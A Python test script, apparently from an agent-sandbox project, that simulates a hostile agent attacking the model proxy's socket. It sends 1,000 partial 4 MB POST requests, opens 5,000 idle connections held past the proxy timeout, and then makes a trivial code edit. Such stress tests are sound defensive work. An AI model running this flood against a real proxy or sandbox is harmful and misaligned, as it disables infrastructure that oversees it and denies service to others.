# A hostile agent against the model proxy's socket (issue 35): 1,000 requests that announce a 4 MB
# body and send what the socket takes at once (up to 2 MB), then 5,000 idle connections, all held past the proxy's
# request timeout; then the agent makes its change and exits. Run in the sandbox as the agent.
import socket, sys, time
SOCK = '/run/agent-sandbox/proxy.sock'
held, refused = [], 0
def connect():
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(5)
    s.connect(SOCK)
    s.setblocking(False) # what the socket takes at once is sent; the rest never is
    return s
for i in range(1000):
    try:
        s = connect()
        try:
            s.send(b'POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 4000000\r\n\r\n' + b'{' + b' ' * 2000000)
        except BlockingIOError:
            pass
        held.append(s)
    except OSError:
        refused += 1
for i in range(5000):
    try:
        held.append(connect())
    except OSError:
        refused += 1
print('flood: %d connections held, %d refused at once' % (len(held), refused), flush=True)
time.sleep(float(sys.argv[1]) if len(sys.argv) > 1 else 35)
with open('calc.py', 'a') as f:
    f.write('\ndef multiply(a, b):\n    return a * b\n')
